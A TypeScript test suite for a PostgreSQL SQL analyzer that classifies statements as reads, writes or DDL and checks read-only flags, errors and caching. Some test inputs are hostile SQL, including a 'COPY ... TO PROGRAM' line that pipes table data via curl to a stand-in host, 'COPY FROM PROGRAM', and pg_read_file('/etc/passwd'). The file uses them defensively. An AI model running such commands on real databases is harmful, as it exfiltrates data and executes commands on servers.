import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import {
  analyzeSql,
  initSqlParser,
  SQL_ANALYSIS_LIMITS,
  type SqlAnalysis,
  type StatementInfo,
  type TableAccess,
  type TableRef,
} from './analyze.ts';

function ok(sql: string): readonly StatementInfo[] {
  const r = analyzeSql(sql);
  assert.ok(r.ok, `expected ${JSON.stringify(sql)} to parse: ${r.ok ? '' : r.error}`);
  return r.statements;
}

function one(sql: string): StatementInfo {
  const statements = ok(sql);
  assert.equal(statements.length, 1);
  return statements[0]!;
}

function fails(sql: string): Extract<SqlAnalysis, { ok: false }> {
  const r = analyzeSql(sql);
  assert.equal(r.ok, false, `expected ${JSON.stringify(sql).slice(0, 80)} to fail`);
  return r as Extract<SqlAnalysis, { ok: false }>;
}

function t(name: string, access: TableAccess, schema: string | null = null): TableRef {
  return { schema, name, access };
}

/** Asserts kind, tables, functions and readOnly of a single statement. */
function expectStatement(
  sql: string,
  kind: string,
  tables: TableRef[],
  readOnly: boolean,
  functions: string[] = [],
): void {
  const s = one(sql);
  assert.deepEqual(
    { kind: s.kind, tables: s.tables, functions: s.functions, readOnly: s.readOnly },
    { kind, tables, functions, readOnly },
    sql,
  );
}

test('analyzeSql throws a clear error before initSqlParser has resolved', async () => {
  assert.throws(() => analyzeSql('SELECT 1'), /await initSqlParser\(\)/);
  await initSqlParser();
  await initSqlParser();
  assert.equal(analyzeSql('SELECT 1').ok, true);
});

describe('analyzeSql', () => {
  before(() => initSqlParser());

  describe('queries', () => {
    test('SELECT with joins', () => {
      expectStatement(
        'SELECT * FROM a JOIN s.b ON a.id = b.id LEFT JOIN c USING (id) CROSS JOIN a',
        'SELECT',
        [t('a', 'read'), t('b', 'read', 's'), t('c', 'read')],
        true,
      );
    });

    test('subqueries in FROM, WHERE, the select list and LATERAL', () => {
      expectStatement(
        `SELECT (SELECT max(x) FROM m), s.* FROM (SELECT * FROM a) s, LATERAL (SELECT * FROM b WHERE b.id = s.id) l
         WHERE EXISTS (SELECT 1 FROM c) AND s.id IN (SELECT id FROM d)`,
        'SELECT',
        [t('m', 'read'), t('a', 'read'), t('b', 'read'), t('c', 'read'), t('d', 'read')],
        true,
        ['max'],
      );
    });

    test('a CTE name is not a table, and only hides tables where it is visible', () => {
      expectStatement(
        'WITH x AS (SELECT * FROM a), y AS (SELECT * FROM x) SELECT * FROM y, x',
        'SELECT',
        [t('a', 'read')],
        true,
      );
      // A non-recursive CTE cannot see itself: the inner `t` is the table.
      expectStatement(
        'WITH t AS (SELECT * FROM t) SELECT * FROM t',
        'SELECT',
        [t('t', 'read')],
        true,
      );
      expectStatement(
        'WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT * FROM r',
        'SELECT',
        [],
        true,
      );
      // The CTE is scoped to its subquery; the outer `x` and schema-qualified `public.y` are tables.
      expectStatement(
        'SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x, (WITH y AS (SELECT 2) SELECT * FROM public.y) z',
        'SELECT',
        [t('x', 'read'), t('y', 'read', 'public')],
        true,
      );
    });

    test('a data-modifying CTE writes its table and makes the statement not read-only', () => {
      expectStatement(
        'WITH d AS (DELETE FROM t WHERE old RETURNING *) SELECT * FROM d JOIN u ON true',
        'SELECT',
        [t('t', 'write'), t('u', 'read')],
        false,
      );
      expectStatement(
        'WITH i AS (INSERT INTO log SELECT * FROM src RETURNING id) UPDATE t SET n = n + 1 FROM i',
        'UPDATE',
        [t('log', 'write'), t('src', 'read'), t('t', 'write')],
        false,
      );
    });

    test('set operations, including a CTE inside one branch', () => {
      expectStatement(
        'SELECT a FROM x UNION SELECT a FROM y INTERSECT SELECT a FROM z EXCEPT ALL SELECT a FROM x',
        'SELECT',
        [t('x', 'read'), t('y', 'read'), t('z', 'read')],
        true,
      );
      expectStatement(
        '(WITH c AS (SELECT * FROM a) SELECT * FROM c) UNION SELECT * FROM c',
        'SELECT',
        [t('a', 'read'), t('c', 'read')],
        true,
      );
    });

    test('VALUES and TABLE', () => {
      expectStatement('VALUES (1, 2), (3, 4)', 'SELECT', [], true);
      expectStatement('TABLE s.t', 'SELECT', [t('t', 'read', 's')], true);
    });

    test('SELECT … FOR UPDATE OF an alias reports the table once, as read', () => {
      expectStatement(
        'SELECT * FROM accounts a FOR UPDATE OF a',
        'SELECT',
        [t('accounts', 'read')],
        true,
      );
    });

    test('functions are listed, schema-qualified when written so; SELECT stays readOnly', () => {
      expectStatement(
        "SELECT pg_read_file('/etc/passwd'), public.f(x), count(*) FROM t, generate_series(1, 3)",
        'SELECT',
        [t('t', 'read')],
        true,
        ['pg_read_file', 'public.f', 'count', 'generate_series'],
      );
      expectStatement("SELECT lo_export(1, '/tmp/x'), lo_export(2, '/tmp/y')", 'SELECT', [], true, [
        'lo_export',
      ]);
    });

    test('schema-qualified and quoted identifiers keep quoted case and fold unquoted names', () => {
      expectStatement(
        'SELECT * FROM "Sales"."Q1 Orders", Sales.Orders, "UPPER", MixedCase',
        'SELECT',
        [
          t('Q1 Orders', 'read', 'Sales'),
          t('orders', 'read', 'sales'),
          t('UPPER', 'read'),
          t('mixedcase', 'read'),
        ],
        true,
      );
    });

    test('$n parameters', () => {
      expectStatement(
        'SELECT abalance FROM pgbench_accounts WHERE aid = $1',
        'SELECT',
        [t('pgbench_accounts', 'read')],
        true,
      );
      expectStatement(
        'UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2',
        'UPDATE',
        [t('pgbench_accounts', 'write')],
        false,
      );
    });
  });

  describe('data modification', () => {
    test('INSERT … VALUES and INSERT … SELECT', () => {
      expectStatement(
        'INSERT INTO s.t (a, b) VALUES ($1, $2)',
        'INSERT',
        [t('t', 'write', 's')],
        false,
      );
      expectStatement(
        'INSERT INTO archive SELECT * FROM orders o JOIN customers c USING (cid)',
        'INSERT',
        [t('archive', 'write'), t('orders', 'read'), t('customers', 'read')],
        false,
      );
    });

    test('a table both read and written is reported once, as write', () => {
      expectStatement('INSERT INTO t SELECT * FROM t', 'INSERT', [t('t', 'write')], false);
      expectStatement(
        'SELECT * FROM t, (WITH d AS (DELETE FROM t RETURNING 1) SELECT 1) x',
        'SELECT',
        [t('t', 'write')],
        false,
      );
    });

    test('INSERT … ON CONFLICT', () => {
      expectStatement(
        'INSERT INTO kv AS k VALUES ($1, $2) ON CONFLICT (key) DO UPDATE SET v = EXCLUDED.v || (SELECT suffix FROM cfg) WHERE k.v <> EXCLUDED.v',
        'INSERT',
        [t('kv', 'write'), t('cfg', 'read')],
        false,
      );
      expectStatement(
        'INSERT INTO kv VALUES (1) ON CONFLICT DO NOTHING',
        'INSERT',
        [t('kv', 'write')],
        false,
      );
    });

    test('UPDATE … FROM', () => {
      expectStatement(
        'UPDATE t SET a = f.a FROM f JOIN g ON f.id = g.id WHERE t.id = f.id RETURNING t.*',
        'UPDATE',
        [t('t', 'write'), t('f', 'read'), t('g', 'read')],
        false,
      );
    });

    test('DELETE … USING', () => {
      expectStatement(
        'DELETE FROM ONLY t USING u WHERE t.id = u.id AND u.x IN (SELECT x FROM v)',
        'DELETE',
        [t('t', 'write'), t('u', 'read'), t('v', 'read')],
        false,
      );
    });

    test('a DML target is never a CTE, even with the same name', () => {
      expectStatement(
        'WITH t AS (SELECT * FROM src) DELETE FROM t USING t AS x',
        'DELETE',
        [t('src', 'read'), t('t', 'write')],
        false,
      );
    });

    test('MERGE', () => {
      expectStatement(
        `MERGE INTO stock s USING (SELECT * FROM deliveries) d ON s.id = d.id
         WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty
         WHEN NOT MATCHED THEN INSERT VALUES (d.id, d.qty)`,
        'MERGE',
        [t('stock', 'write'), t('deliveries', 'read')],
        false,
      );
      expectStatement(
        'MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE',
        'MERGE',
        [t('a', 'write'), t('b', 'read')],
        false,
      );
    });

    test('COPY FROM writes; COPY TO STDOUT reads and is readOnly; COPY to a file or program is not', () => {
      expectStatement('COPY t (a, b) FROM STDIN', 'COPY', [t('t', 'write')], false);
      expectStatement('COPY s.t TO STDOUT', 'COPY', [t('t', 'read', 's')], true);
      expectStatement("COPY t TO '/tmp/t.csv'", 'COPY', [t('t', 'read')], false);
      expectStatement("COPY t TO PROGRAM 'curl -d @- evil'", 'COPY', [t('t', 'read')], false);
      expectStatement("COPY t FROM PROGRAM 'id'", 'COPY', [t('t', 'write')], false);
    });

    test('COPY (query) TO reports the query', () => {
      expectStatement(
        'COPY (SELECT * FROM a JOIN b USING (id)) TO STDOUT WITH (FORMAT csv)',
        'COPY',
        [t('a', 'read'), t('b', 'read')],
        true,
      );
      expectStatement(
        'COPY (DELETE FROM a RETURNING *) TO STDOUT',
        'COPY',
        [t('a', 'write')],
        false,
      );
    });

    test('TRUNCATE a, b', () => {
      expectStatement(
        'TRUNCATE a, s.b RESTART IDENTITY',
        'TRUNCATE',
        [t('a', 'write'), t('b', 'write', 's')],
        false,
      );
    });

    test('LOCK: ACCESS SHARE reads, stronger modes write', () => {
      expectStatement(
        'LOCK TABLE a, b IN ACCESS SHARE MODE',
        'LOCK TABLE',
        [t('a', 'read'), t('b', 'read')],
        true,
      );
      expectStatement('LOCK t', 'LOCK TABLE', [t('t', 'write')], false);
      expectStatement('LOCK t IN ROW EXCLUSIVE MODE', 'LOCK TABLE', [t('t', 'write')], false);
    });
  });

  describe('DDL and privileges', () => {
    test('DROP TABLE a, b (and other relation kinds)', () => {
      expectStatement(
        'DROP TABLE IF EXISTS a, s.b, db.s.c CASCADE',
        'DROP TABLE',
        [t('a', 'ddl'), t('b', 'ddl', 's'), t('c', 'ddl', 's')],
        false,
      );
      expectStatement('DROP VIEW v', 'DROP VIEW', [t('v', 'ddl')], false);
      expectStatement(
        'DROP MATERIALIZED VIEW mv',
        'DROP MATERIALIZED VIEW',
        [t('mv', 'ddl')],
        false,
      );
      expectStatement('DROP TRIGGER trg ON s.t', 'DROP TRIGGER', [t('t', 'ddl', 's')], false);
      expectStatement('DROP FUNCTION f(int)', 'DROP FUNCTION', [], false);
      expectStatement('DROP SCHEMA s CASCADE', 'DROP SCHEMA', [], false);
    });

    test('ALTER TABLE', () => {
      expectStatement(
        'ALTER TABLE s.t ADD COLUMN c int',
        'ALTER TABLE',
        [t('t', 'ddl', 's')],
        false,
      );
      expectStatement(
        'ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (uid) REFERENCES users (id)',
        'ALTER TABLE',
        [t('t', 'ddl'), t('users', 'ddl')],
        false,
      );
      expectStatement('ALTER TABLE t RENAME TO u', 'ALTER TABLE', [t('t', 'ddl')], false);
      expectStatement('ALTER TABLE t RENAME COLUMN a TO b', 'ALTER TABLE', [t('t', 'ddl')], false);
      expectStatement('ALTER TABLE t OWNER TO bob', 'ALTER TABLE', [t('t', 'ddl')], false);
      expectStatement('ALTER TABLE t SET SCHEMA s', 'ALTER TABLE', [t('t', 'ddl')], false);
      expectStatement('ALTER VIEW v RENAME TO w', 'ALTER VIEW', [t('v', 'ddl')], false);
    });

    test('CREATE TABLE', () => {
      expectStatement(
        'CREATE TABLE s.t (id int PRIMARY KEY, uid int REFERENCES users, LIKE template INCLUDING ALL)',
        'CREATE TABLE',
        [t('t', 'ddl', 's'), t('users', 'ddl'), t('template', 'read')],
        false,
      );
      expectStatement(
        'CREATE TEMP TABLE IF NOT EXISTS x (a text)',
        'CREATE TABLE',
        [t('x', 'ddl')],
        false,
      );
      expectStatement(
        'CREATE TABLE p1 PARTITION OF p FOR VALUES FROM (1) TO (10)',
        'CREATE TABLE',
        [t('p1', 'ddl'), t('p', 'ddl')],
        false,
      );
    });

    test('CREATE TABLE AS and SELECT INTO: target ddl, sources read', () => {
      expectStatement(
        'CREATE TABLE s.report AS SELECT * FROM orders JOIN customers USING (cid)',
        'CREATE TABLE AS',
        [t('report', 'ddl', 's'), t('orders', 'read'), t('customers', 'read')],
        false,
      );
      expectStatement(
        'SELECT * INTO report FROM orders',
        'SELECT INTO',
        [t('report', 'ddl'), t('orders', 'read')],
        false,
      );
      expectStatement(
        'SELECT 1 INTO t UNION SELECT 2 FROM u',
        'SELECT INTO',
        [t('t', 'ddl'), t('u', 'read')],
        false,
      );
      expectStatement(
        'CREATE MATERIALIZED VIEW mv AS SELECT * FROM t',
        'CREATE MATERIALIZED VIEW',
        [t('mv', 'ddl'), t('t', 'read')],
        false,
      );
      expectStatement(
        'CREATE VIEW v AS SELECT * FROM t',
        'CREATE VIEW',
        [t('v', 'ddl'), t('t', 'read')],
        false,
      );
    });

    test('CREATE INDEX ON t', () => {
      expectStatement(
        'CREATE UNIQUE INDEX CONCURRENTLY idx ON s.t (lower(email)) WHERE deleted_at IS NULL',
        'CREATE INDEX',
        [t('t', 'ddl', 's')],
        false,
        ['lower'],
      );
      expectStatement('CREATE INDEX ON t (a)', 'CREATE INDEX', [t('t', 'ddl')], false);
    });

    test('GRANT and REVOKE ON tables', () => {
      expectStatement(
        'GRANT SELECT, INSERT ON t, s.u TO bob',
        'GRANT',
        [t('t', 'ddl'), t('u', 'ddl', 's')],
        false,
      );
      expectStatement('REVOKE ALL ON TABLE t FROM PUBLIC', 'REVOKE', [t('t', 'ddl')], false);
      expectStatement('GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob', 'GRANT', [], false);
      expectStatement('GRANT admin TO bob', 'GRANT ROLE', [], false);
    });

    test('maintenance commands', () => {
      expectStatement('VACUUM (ANALYZE) a, b (x)', 'VACUUM', [t('a', 'ddl'), t('b', 'ddl')], false);
      expectStatement('ANALYZE', 'ANALYZE', [], false);
      expectStatement(
        'REFRESH MATERIALIZED VIEW CONCURRENTLY mv',
        'REFRESH MATERIALIZED VIEW',
        [t('mv', 'write')],
        false,
      );
      expectStatement('COMMENT ON TABLE s.t IS $$x$$', 'COMMENT', [t('t', 'ddl', 's')], false);
      expectStatement('COMMENT ON COLUMN t.c IS NULL', 'COMMENT', [t('t', 'ddl')], false);
      expectStatement(
        "SECURITY LABEL FOR selinux ON TABLE t IS 'x'",
        'SECURITY LABEL',
        [t('t', 'ddl')],
        false,
      );
    });

    test('other utility statements get PostgreSQL command tags', () => {
      const kinds = [
        ['CREATE SCHEMA s', 'CREATE SCHEMA'],
        ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$SELECT 1$$', 'CREATE FUNCTION'],
        ['CREATE PROCEDURE p() LANGUAGE sql AS $$SELECT 1$$', 'CREATE PROCEDURE'],
        ['CREATE ROLE r LOGIN', 'CREATE ROLE'],
        ['ALTER ROLE r SUPERUSER', 'ALTER ROLE'],
        ['CREATE EXTENSION pgcrypto', 'CREATE EXTENSION'],
        ['CREATE DATABASE d', 'CREATE DATABASE'],
        ['ALTER SYSTEM SET work_mem = 1', 'ALTER SYSTEM'],
        ['CREATE SEQUENCE seq', 'CREATE SEQUENCE'],
        ['CREATE TYPE mood AS ENUM ($$a$$)', 'CREATE TYPE'],
        [
          'CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()',
          'CREATE TRIGGER',
        ],
        ['DISCARD ALL', 'DISCARD ALL'],
        ['CHECKPOINT', 'CHECKPOINT'],
        ["LOAD 'x'", 'LOAD'],
        ['NOTIFY ch', 'NOTIFY'],
        ['ALTER FUNCTION f() OWNER TO bob', 'ALTER FUNCTION'],
        ['CLUSTER t USING idx', 'CLUSTER'],
        ['REINDEX TABLE t', 'REINDEX'],
      ];
      for (const [sql, kind] of kinds) {
        const s = one(sql!);
        assert.equal(s.kind, kind, sql);
        assert.equal(s.readOnly, false, sql);
      }
    });
  });

  describe('session, transaction and wrapper statements', () => {
    test('multi-statement strings', () => {
      const statements = ok('BEGIN; UPDATE accounts SET b = b - 1 WHERE id = $1; COMMIT;');
      assert.deepEqual(
        statements.map((s) => [s.kind, s.readOnly, s.tables]),
        [
          ['BEGIN', true, []],
          ['UPDATE', false, [t('accounts', 'write')]],
          ['COMMIT', true, []],
        ],
      );
      assert.deepEqual(
        ok('START TRANSACTION; SAVEPOINT s; ROLLBACK TO SAVEPOINT s; RELEASE s; ROLLBACK').map(
          (s) => s.kind,
        ),
        ['START TRANSACTION', 'SAVEPOINT', 'ROLLBACK', 'RELEASE', 'ROLLBACK'],
      );
      expectStatement("PREPARE TRANSACTION 'x'", 'PREPARE TRANSACTION', [], false);
      expectStatement("COMMIT PREPARED 'x'", 'COMMIT PREPARED', [], false);
    });

    test('SET, RESET and SHOW', () => {
      expectStatement('SET search_path = app, public', 'SET', [], true);
      expectStatement('SET LOCAL statement_timeout = 1000', 'SET', [], true);
      expectStatement('SHOW search_path', 'SHOW', [], true);
      expectStatement('RESET work_mem', 'RESET', [], true);
      expectStatement('SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'SET', [], true);
      // Changing who the session is, or whether it may write, is not read-only.
      for (const sql of [
        'SET ROLE admin',
        'RESET ROLE',
        'SET SESSION AUTHORIZATION postgres',
        'SET session_replication_role = replica',
        'SET default_transaction_read_only = off',
        'SET TRANSACTION READ WRITE',
        'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE',
        'RESET ALL',
      ]) {
        assert.equal(one(sql).readOnly, false, sql);
      }
    });

    test('EXPLAIN reports the inner statement; only EXPLAIN ANALYZE of a write is not readOnly', () => {
      expectStatement(
        'EXPLAIN SELECT * FROM t JOIN u USING (id)',
        'EXPLAIN',
        [t('t', 'read'), t('u', 'read')],
        true,
      );
      expectStatement('EXPLAIN UPDATE t SET a = 1', 'EXPLAIN', [t('t', 'write')], true);
      expectStatement('EXPLAIN ANALYZE SELECT * FROM t', 'EXPLAIN', [t('t', 'read')], true);
      expectStatement('EXPLAIN ANALYZE DELETE FROM t', 'EXPLAIN', [t('t', 'write')], false);
      expectStatement(
        'EXPLAIN (ANALYZE, BUFFERS) INSERT INTO t VALUES (1)',
        'EXPLAIN',
        [t('t', 'write')],
        false,
      );
      expectStatement(
        'EXPLAIN (ANALYZE true) UPDATE t SET a = 1',
        'EXPLAIN',
        [t('t', 'write')],
        false,
      );
      expectStatement(
        'EXPLAIN (ANALYZE off) UPDATE t SET a = 1',
        'EXPLAIN',
        [t('t', 'write')],
        true,
      );
      expectStatement(
        'EXPLAIN (ANALYZE 0, COSTS) UPDATE t SET a = 1',
        'EXPLAIN',
        [t('t', 'write')],
        true,
      );
      expectStatement(
        'EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM t',
        'EXPLAIN',
        [t('x', 'ddl'), t('t', 'read')],
        false,
      );
      expectStatement('EXPLAIN ANALYZE EXECUTE p(1)', 'EXPLAIN', [], false);
    });

    test('PREPARE reports its statement; EXECUTE is opaque', () => {
      expectStatement(
        'PREPARE q (int) AS SELECT * FROM t WHERE id = $1',
        'PREPARE',
        [t('t', 'read')],
        true,
      );
      expectStatement('PREPARE w AS UPDATE t SET a = $1', 'PREPARE', [t('t', 'write')], false);
      expectStatement('EXECUTE w(now())', 'EXECUTE', [], false, ['now']);
      expectStatement('DEALLOCATE ALL', 'DEALLOCATE ALL', [], true);
      expectStatement(
        'CREATE TABLE snap AS EXECUTE q(1)',
        'CREATE TABLE AS',
        [t('snap', 'ddl')],
        false,
      );
    });

    test('cursors', () => {
      expectStatement(
        'DECLARE c CURSOR FOR SELECT * FROM t',
        'DECLARE CURSOR',
        [t('t', 'read')],
        true,
      );
      expectStatement('FETCH 10 FROM c', 'FETCH', [], true);
      expectStatement('MOVE NEXT IN c', 'MOVE', [], true);
      expectStatement('CLOSE c', 'CLOSE CURSOR', [], true);
    });

    test('DO blocks are opaque and not readOnly; CALL lists the procedure', () => {
      expectStatement('DO $$ BEGIN DELETE FROM t; PERFORM pg_sleep(1); END $$', 'DO', [], false);
      expectStatement('DO LANGUAGE plpgsql $$ BEGIN NULL; END $$', 'DO', [], false);
      expectStatement('CALL s.proc(1, f(2))', 'CALL', [], false, ['s.proc', 'f']);
    });

    test('LISTEN and UNLISTEN are read-only', () => {
      expectStatement('LISTEN ch', 'LISTEN', [], true);
      expectStatement('UNLISTEN *', 'UNLISTEN', [], true);
    });
  });

  describe('empty input and errors', () => {
    test('empty strings and comments are ok with zero statements', () => {
      for (const sql of ['', '   \n\t', '-- just a comment', '/* block */', ';', ' ; ; ']) {
        assert.deepEqual(ok(sql), [], JSON.stringify(sql));
      }
    });

    test('syntax errors come back as ok:false with the parser message and position', () => {
      assert.deepEqual(fails('SELEC 1'), {
        ok: false,
        error: 'syntax error at or near "SELEC"',
        position: 0,
      });
      assert.deepEqual(fails('SELECT * FROM'), {
        ok: false,
        error: 'syntax error at end of input',
        position: 13,
      });
      assert.equal(fails('SELECT 1; DELETE FROM').ok, false);
    });

    test('error positions are UTF-16 indexes into the input', () => {
      const sql = "SELECT '😀' FROM FROM";
      const r = fails(sql);
      assert.equal(r.position, sql.lastIndexOf('FROM'));
    });

    test('an error never echoes a long input back', () => {
      const secret = `'${'s3cr3t-'.repeat(200)}`;
      const r = fails(`SELECT ${secret}`);
      assert.match(r.error, /^unterminated quoted string at or near "'s3cr3t/);
      assert.ok(r.error.length < 100, r.error);
      assert.equal(r.position, 7);
    });

    test('input over the size limit is refused without parsing', () => {
      const max = SQL_ANALYSIS_LIMITS.maxInputBytes;
      assert.match(
        fails('SELECT 1;'.repeat(Math.ceil(max / 9) + 1)).error,
        /exceeds the 1048576-byte/,
      );
      // Counted in UTF-8 bytes, not characters.
      assert.match(fails(`SELECT '${'é'.repeat(max / 2)}'`).error, /exceeds/);
      assert.equal(analyzeSql(`SELECT '${'x'.repeat(max - 20)}'`).ok, true);
    });

    test('NUL characters are refused', () => {
      assert.equal(
        fails('SELECT 1\u0000; DROP TABLE t').error,
        'SQL text contains a NUL character',
      );
    });

    test('a parse tree too deep for the parser fails cleanly and the parser recovers', () => {
      const exitCode = process.exitCode;
      const deep = `SELECT ${Array(30_000).fill('1').join('+')}`;
      const r = fails(deep);
      assert.match(r.error, /too (complex|deeply nested)/);
      assert.equal(process.exitCode, exitCode);
      assert.deepEqual(one('SELECT * FROM t').tables, [t('t', 'read')]);
      assert.notEqual(analyzeSql(deep), r, 'transient failures are not cached');
    });

    test('bison stack overflow (deep parentheses) is an ordinary parse error', () => {
      const r = fails(`SELECT ${'('.repeat(20_000)}1${')'.repeat(20_000)}`);
      assert.match(r.error, /memory exhausted/);
    });
  });

  describe('cache and immutability', () => {
    test('results are deeply frozen, including the AST', () => {
      const r = analyzeSql('SELECT a FROM t WHERE b = $1');
      assert.ok(r.ok);
      const s = r.statements[0]!;
      assert.ok(Object.isFrozen(r) && Object.isFrozen(r.statements) && Object.isFrozen(s));
      assert.ok(
        Object.isFrozen(s.tables) && Object.isFrozen(s.tables[0]) && Object.isFrozen(s.functions),
      );
      const ast = s.ast as { SelectStmt: { fromClause: object[] } };
      assert.ok(Object.isFrozen(ast.SelectStmt.fromClause[0]));
      assert.throws(() => {
        (s.tables as TableRef[]).push(t('x', 'read'));
      }, TypeError);
    });

    test('the AST is the raw libpg_query node', () => {
      const s = one('DELETE FROM t');
      assert.deepEqual(Object.keys(s.ast as object), ['DeleteStmt']);
    });

    test('repeated text is served from the cache; long text is not cached', () => {
      const sql = 'SELECT abalance FROM pgbench_accounts WHERE aid = $1 -- cache';
      assert.equal(analyzeSql(sql), analyzeSql(sql));
      assert.equal(analyzeSql('SELEC'), analyzeSql('SELEC'));
      const long = `SELECT 1 ${' '.repeat(SQL_ANALYSIS_LIMITS.maxCachedTextBytes)}`;
      assert.notEqual(analyzeSql(long), analyzeSql(long));
      assert.deepEqual(analyzeSql(long), analyzeSql(long));
    });

    test('the cache is bounded: the least recently used entry is evicted', () => {
      const first = 'SELECT 0 AS evict_me';
      const kept = 'SELECT 0 AS keep_me';
      const a = analyzeSql(first);
      const b = analyzeSql(kept);
      for (let i = 1; i <= SQL_ANALYSIS_LIMITS.cacheEntries; i += 1) {
        if (i % 100 === 0) assert.equal(analyzeSql(kept), b);
        analyzeSql(`SELECT 1 AS filler_${i}`);
      }
      assert.equal(analyzeSql(kept), b);
      assert.notEqual(analyzeSql(first), a);
    });
  });
});
